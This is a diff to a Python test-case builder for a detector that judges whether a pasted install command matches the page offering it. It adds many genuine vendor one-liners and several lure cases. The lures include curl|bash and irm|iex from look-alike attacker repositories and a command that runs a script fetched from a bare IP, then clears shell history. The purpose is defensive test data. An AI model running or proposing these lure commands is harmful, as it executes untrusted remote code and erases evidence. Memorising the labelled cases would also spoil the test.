@@ -1159,6 +1159,318 @@ def config() -> list[Case]:
     ]
 
 
+def _platform(text: str) -> str:
+    first = text.lower()
+    windows = (
+        "irm ",
+        "iwr ",
+        "invoke-",
+        "winget ",
+        "choco ",
+        "scoop ",
+        "msiexec ",
+        "add-appx",
+        "powershell ",
+        "& (",
+        "iex ",
+        "set-executionpolicy",
+    )
+    if first.startswith(windows) or "install.ps1" in first:
+        return "windows"
+    return "macos" if first.startswith("brew ") else "linux"
+
+
+def more_shapes() -> list[Case]:
+    """README shapes beyond curl | sh (saved then run, sudo -E, piped arguments, script blocks,
+    release APIs, package managers pointed at the repository, release packages and bundles),
+    other forges' release and package pages, and more vendors' own pages."""
+    out: list[Case] = []
+
+    def add(cid: str, text: str, source: str, target: str = "terminal") -> None:
+        out.append(
+            case(
+                f"b4-shape-{cid}",
+                text,
+                "not_flagged",
+                "benign-own-page",
+                _platform(text),
+                source,
+                target,
+            )
+        )
+
+    OWNER, REPO = "saltmarsh-dev", "brine"
+    gh = f"https://github.com/{OWNER}/{REPO}"
+    shapes = [
+        f"curl -fsSL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh -o install.sh && bash install.sh",
+        f"wget -O - https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | sudo -E bash -",
+        f"curl -fsSL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | sudo bash -s -- --channel stable",
+        f"curl -fsSL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | env BRINE_HOME=$HOME/.brine sh",
+        f"iwr -useb https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1 | iex",
+        f"Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1'))",
+        f"& ([scriptblock]::Create((irm https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1))) -Version 1.2.0",
+        f'powershell -NoProfile -ExecutionPolicy Bypass -Command "iwr -useb https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1 | iex"',
+        f'iex "& {{ $(irm https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1) }} -Global"',
+        f"curl -s https://api.github.com/repos/{OWNER}/{REPO}/releases/latest | grep browser_download_url | grep linux_amd64 | cut -d '\"' -f 4 | wget -qi -",
+        f"gh release download --repo {OWNER}/{REPO} --pattern '*linux_amd64.tar.gz'",
+        f"go install github.com/{OWNER}/{REPO}/cmd/{REPO}@latest",
+        f"cargo install --git https://github.com/{OWNER}/{REPO} --locked",
+        f"pip install git+https://github.com/{OWNER}/{REPO}.git@v1.2.0",
+        f"npx github:{OWNER}/{REPO} init",
+        f"uvx --from git+https://github.com/{OWNER}/{REPO} {REPO} --help",
+        f"nix run github:{OWNER}/{REPO}",
+        f"brew install {OWNER}/tap/{REPO}",
+        f"brew tap {OWNER}/{REPO} && brew install {REPO}",
+        f"scoop bucket add {OWNER} https://github.com/{OWNER}/scoop-bucket\nscoop install {OWNER}/{REPO}",
+        f"wget https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}-x86_64.AppImage && chmod +x {REPO}-x86_64.AppImage && ./{REPO}-x86_64.AppImage",
+        f"wget https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}_1.2.0_amd64.deb && sudo dpkg -i {REPO}_1.2.0_amd64.deb",
+        f"sudo rpm -i https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}-1.2.0.x86_64.rpm",
+        f"Invoke-WebRequest -Uri https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}-setup.exe -OutFile {REPO}-setup.exe; .\\{REPO}-setup.exe /S",
+        f"msiexec /i https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}.msi /quiet",
+        f"Add-AppxPackage https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}.msixbundle",
+        f"kubectl apply -f https://raw.githubusercontent.com/{OWNER}/{REPO}/main/deploy/operator.yaml",
+        f"helm repo add {OWNER} https://{OWNER}.github.io/helm-charts && helm install {REPO} {OWNER}/{REPO}",
+        f"docker run --rm -it -v $PWD:/work ghcr.io/{OWNER}/{REPO}:latest",
+        f"curl -sSfL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.2.0",
+        f"curl -fsSL https://github.com/{OWNER}/{REPO}/raw/main/install.sh | bash",
+        f"curl -fsSLO https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}_checksums.txt && sha256sum --ignore-missing -c {REPO}_checksums.txt",
+        f"curl -fsSL https://codeload.github.com/{OWNER}/{REPO}/tar.gz/refs/tags/v1.2.0 | tar -xz && cd {REPO}-1.2.0 && make install",
+    ]
+    for i, t in enumerate(shapes):
+        add(f"gh-{i:02d}", t, gh)
+    # forge pages of other shapes
+    add(
+        "gl-api",
+        "curl -fsSL https://gitlab.com/api/v4/projects/48213/packages/generic/brine/1.2.0/brine-linux-amd64 -o brine && chmod +x brine",
+        "https://gitlab.com/saltmarsh-dev/brine",
+    )
+    add(
+        "gl-rel",
+        "curl -fsSL https://gitlab.com/saltmarsh-dev/brine/-/releases/v1.2.0/downloads/install.sh | sh",
+        "https://gitlab.com/saltmarsh-dev/brine/-/releases",
+    )
+    add(
+        "cb-rel",
+        "curl -fsSL https://codeberg.org/saltmarsh-dev/brine/releases/download/v1.2.0/install.sh | sh",
+        "https://codeberg.org/saltmarsh-dev/brine/releases",
+    )
+    add(
+        "gitea",
+        "curl -fsSL https://git.saltmarsh.dev/saltmarsh/brine/raw/branch/main/install.sh | sh",
+        "https://git.saltmarsh.dev/saltmarsh/brine",
+    )
+    add(
+        "vencord",
+        "irm https://raw.githubusercontent.com/Vendicated/VencordInstaller/main/install.ps1 | iex",
+        "https://vencord.dev/download/",
+    )
+    add(
+        "nvidia",
+        "curl -fsSL https://nvidia.github.io/libnvidia-container/gpgkey | sudo gpg --dearmor -o /usr/share/keyrings/nvidia-container-toolkit-keyring.gpg",
+        "https://docs.nvidia.com/datacenter/cloud-native/container-toolkit/latest/install-guide.html",
+    )
+    add("pivpn", "curl -L https://install.pivpn.io | bash", "https://www.pivpn.io/")
+    add("rvm", "\\curl -sSL https://get.rvm.io | bash -s stable", "https://rvm.io/rvm/install")
+    add("webi", "curl -sS https://webi.sh/node | sh", "https://webinstall.dev/node/")
+    add(
+        "anza",
+        'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
+        "https://docs.anza.xyz/cli/install",
+    )
+    add(
+        "devbox",
+        "curl -fsSL https://get.jetify.com/devbox | bash",
+        "https://www.jetify.com/docs/devbox/installing_devbox/",
+    )
+    add(
+        "firebase", "curl -sL https://firebase.tools | bash", "https://firebase.google.com/docs/cli"
+    )
+    add("deno-x", "deno run -A https://deno.land/x/brine@1.2.0/cli.ts", "https://deno.land/x/brine")
+    add("jsr", "deno install -gA jsr:@saltmarsh/brine", "https://jsr.io/@saltmarsh/brine")
+    add(
+        "pimoroni",
+        "curl -sSL https://get.pimoroni.com/i2c | bash",
+        "https://learn.pimoroni.com/article/getting-started-with-enviro-plus",
+    )
+    add("raspap", "curl -sL https://install.raspap.com | bash", "https://docs.raspap.com/")
+    add(
+        "homebridge",
+        "curl -sSfL https://repo.homebridge.io/KEY.gpg | sudo gpg --dearmor | sudo tee /usr/share/keyrings/homebridge.gpg  > /dev/null",
+        "https://github.com/homebridge/homebridge/wiki/Install-Homebridge-on-Debian-or-Ubuntu-Linux",
+    )
+    add(
+        "crowdsec",
+        "curl -s https://install.crowdsec.net | sudo sh",
+        "https://docs.crowdsec.net/docs/getting_started/install_crowdsec/",
+    )
+    add(
+        "wazuh",
+        "curl -sO https://packages.wazuh.com/4.9/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
+        "https://documentation.wazuh.com/current/quickstart.html",
+    )
+    add(
+        "nextdns",
+        "sh -c 'sh -c \"$(curl -sL https://nextdns.io/install)\"'",
+        "https://github.com/nextdns/nextdns/wiki",
+    )
+    add(
+        "adguard",
+        "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v",
+        "https://github.com/AdguardTeam/AdGuardHome#getting-started",
+    )
+    add(
+        "cloudpanel",
+        'curl -sS https://installer.cloudpanel.io/ce/v2/install.sh -o install.sh; echo "a3ba69a8102345127b4ae0e28cfe89daca675cbc63cd39225133cdd2fa02ad36 install.sh" | sha256sum -c && sudo bash install.sh',
+        "https://www.cloudpanel.io/docs/v2/getting-started/other/",
+    )
+    add(
+        "hestia",
+        "wget https://raw.githubusercontent.com/hestiacp/hestiacp/release/install/hst-install.sh\nsudo bash hst-install.sh",
+        "https://hestiacp.com/install",
+    )
+    add(
+        "virtualmin",
+        "wget https://software.virtualmin.com/gpl/scripts/virtualmin-install.sh && sudo sh virtualmin-install.sh",
+        "https://www.virtualmin.com/download/",
+    )
+    add(
+        "aapanel",
+        'URL=https://www.aapanel.com/script/install_7.0_en.sh && if [ -f /usr/bin/curl ];then curl -ksSO "$URL" ;else wget --no-check-certificate -O install_7.0_en.sh "$URL";fi;bash install_7.0_en.sh aapanel',
+        "https://www.aapanel.com/new/download.html",
+    )
+    add(
+        "ddev",
+        "curl -fsSL https://ddev.com/install.sh | bash",
+        "https://ddev.readthedocs.io/en/stable/users/install/ddev-installation/",
+    )
+    add(
+        "lando",
+        '/bin/bash -c "$(curl -fsSL https://get.lando.dev/setup-lando.sh)"',
+        "https://docs.lando.dev/install/linux.html",
+    )
+    add("tea", "sh <(curl https://tea.xyz)", "https://docs.tea.xyz/")
+    add(
+        "zellij",
+        "bash <(curl -L https://zellij.dev/launch)",
+        "https://zellij.dev/documentation/installation",
+    )
+    add(
+        "uv-win-ps", "irm https://astral.sh/uv/install.ps1 | iex", "https://github.com/astral-sh/uv"
+    )
+    add(
+        "claude",
+        "irm https://claude.ai/install.ps1 | iex",
+        "https://docs.anthropic.com/en/docs/claude-code/setup",
+    )
+    add(
+        "gemini", "npm install -g @google/gemini-cli", "https://github.com/google-gemini/gemini-cli"
+    )
+    add("opencode", "curl -fsSL https://opencode.ai/install | bash", "https://opencode.ai/docs/")
+    add(
+        "kiro",
+        "curl -fsSL https://cli.kiro.dev/install | bash",
+        "https://kiro.dev/docs/cli/installation/",
+    )
+    add(
+        "cursor",
+        "curl https://cursor.com/install -fsS | bash",
+        "https://docs.cursor.com/en/cli/installation",
+    )
+    add("amp", "curl -fsSL https://ampcode.com/install.sh | bash", "https://ampcode.com/manual")
+    add(
+        "goose",
+        "curl -fsSL https://github.com/block/goose/releases/download/stable/download_cli.sh | bash",
+        "https://block.github.io/goose/docs/getting-started/installation/",
+    )
+    add(
+        "aider",
+        "curl -LsSf https://aider.chat/install.sh | sh",
+        "https://aider.chat/docs/install.html",
+    )
+    add(
+        "warp-linux",
+        "sudo apt-get install wget gpg && wget -qO- https://releases.warp.dev/linux/keys/warp.asc | gpg --dearmor > warpdotdev.gpg",
+        "https://docs.warp.dev/getting-started/readme/installation-and-setup",
+    )
+    add(
+        "1pw-mac",
+        "brew install --cask 1password-cli",
+        "https://developer.1password.com/docs/cli/get-started/",
+    )
+    add(
+        "tailscale-win",
+        "winget install tailscale.tailscale",
+        "https://tailscale.com/kb/1022/install-windows",
+    )
+    add(
+        "powertoys",
+        "winget install Microsoft.PowerToys --source winget",
+        "https://learn.microsoft.com/en-us/windows/powertoys/install",
+    )
+    add("wsl-ubuntu", "wsl --install -d Ubuntu", "https://ubuntu.com/desktop/wsl")
+    add(
+        "choco-pkg",
+        "choco install nodejs-lts -y",
+        "https://community.chocolatey.org/packages/nodejs-lts",
+    )
+    add(
+        "scoop-extras",
+        "scoop bucket add extras\nscoop install extras/vscode",
+        "https://scoop.sh/#/apps?q=vscode",
+    )
+    add("sdk-java", "sdk install java 21.0.2-open", "https://sdkman.io/usage")
+    add(
+        "asdf-node",
+        "asdf plugin add nodejs https://github.com/asdf-vm/asdf-nodejs.git\nasdf install nodejs latest",
+        "https://github.com/asdf-vm/asdf-nodejs",
+    )
+    add(
+        "mise-use",
+        "mise use --global node@22 python@3.12",
+        "https://mise.jdx.dev/getting-started.html",
+    )
+    add(
+        "pyenv-win",
+        'Invoke-WebRequest -UseBasicParsing -Uri "https://raw.githubusercontent.com/pyenv-win/pyenv-win/master/pyenv-win/install-pyenv-win.ps1" -OutFile "./install-pyenv-win.ps1"; &"./install-pyenv-win.ps1"',
+        "https://github.com/pyenv-win/pyenv-win#quick-start",
+    )
+    add(
+        "nvm-win",
+        "winget install CoreyButler.NVMforWindows",
+        "https://github.com/coreybutler/nvm-windows",
+    )
+    add("volta-win", "winget install Volta.Volta", "https://docs.volta.sh/guide/getting-started")
+    add(
+        "rustup-win",
+        "winget install Rustlang.Rustup",
+        "https://rust-lang.github.io/rustup/installation/other.html",
+    )
+    add(
+        "k3s-agent",
+        "curl -sfL https://get.k3s.io | K3S_URL=https://myserver:6443 K3S_TOKEN=mynodetoken sh -",
+        "https://docs.k3s.io/quick-start",
+    )
+    add("helm-win", "choco install kubernetes-helm", "https://helm.sh/docs/intro/install/")
+    add("ollama-run", "ollama run llama3.2", "https://ollama.com/library/llama3.2")
+    add(
+        "docker-convenience",
+        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh ./get-docker.sh --dry-run",
+        "https://docs.docker.com/engine/install/ubuntu/#install-using-the-convenience-script",
+    )
+    add("bun-upgrade", "bun upgrade", "https://bun.sh/docs/installation#upgrading")
+    add(
+        "nix-darwin",
+        "nix run nix-darwin/master#darwin-rebuild -- switch",
+        "https://github.com/nix-darwin/nix-darwin",
+    )
+    add(
+        "home-manager",
+        "nix-channel --add https://github.com/nix-community/home-manager/archive/master.tar.gz home-manager\nnix-channel --update",
+        "https://nix-community.github.io/home-manager/",
+    )
+    return out
+
+
 # The look-alikes: each shape above from a page that does not vouch for it.
 def lures() -> list[Case]:
     out: list[Case] = []
@@ -1410,6 +1722,56 @@ def lures() -> list[Case]:
         "terminal",
         platform="windows",
     )
+    # an address staged in a variable is still the download's: a stranger's, an IP's
+    add(
+        'u=http://203.0.113.9/x.sh; curl -fsS "$u" -o /tmp/x.sh; bash /tmp/x.sh; history -c',
+        "https://www.aapanel.com/new/download.html",
+        "terminal",
+    )
+    add(
+        'URL=https://cdn.stranger-host.test/i.sh && curl -ksSO "$URL" && bash i.sh',
+        "https://recipes-daily.example/easy-lasagne",
+        "terminal",
+    )
+    # a project site vouches for its installer's repository, not for another part or person
+    add(
+        "irm https://raw.githubusercontent.com/mallory/vencord-helper/main/install.ps1 | iex",
+        "https://vencord.dev/download/",
+        "terminal",
+        "flagged",
+        "windows",
+    )
+    add(
+        "irm https://raw.githubusercontent.com/mallory/VencordInstallerFix/main/i.ps1 | iex",
+        "https://vencord.dev/download/",
+        "terminal",
+        "flagged",
+        "windows",
+    )
+    add(
+        "curl -fsSL https://raw.githubusercontent.com/tiltx-dev/tools/master/install.sh | bash",
+        "https://docs.tilt.dev/install.html",
+        "terminal",
+        "flagged",
+    )
+    add(
+        "curl -fsSL https://raw.githubusercontent.com/evil-tilt/tilt-tools/main/i.sh | bash",
+        "https://docs.tilt.dev/install.html",
+        "terminal",
+        "flagged",
+    )
+    add(
+        "irm https://raw.githubusercontent.com/Vendicated/VencordInstaller/main/install.ps1 | iex",
+        "https://vencord.dev/download/",
+        "run_dialog",
+        platform="windows",
+    )
+    add(
+        "curl -fsSL https://raw.githubusercontent.com/mallory/install/main/install.sh | sh",
+        "https://downloads.pelagic.dev/install",
+        "terminal",
+        "flagged",
+    )
     return out
 
 
@@ -1424,6 +1786,7 @@ def build() -> list[Case]:
         *messages(),
         *prose(),
         *config(),
+        *more_shapes(),
         *lures(),
     ]
 
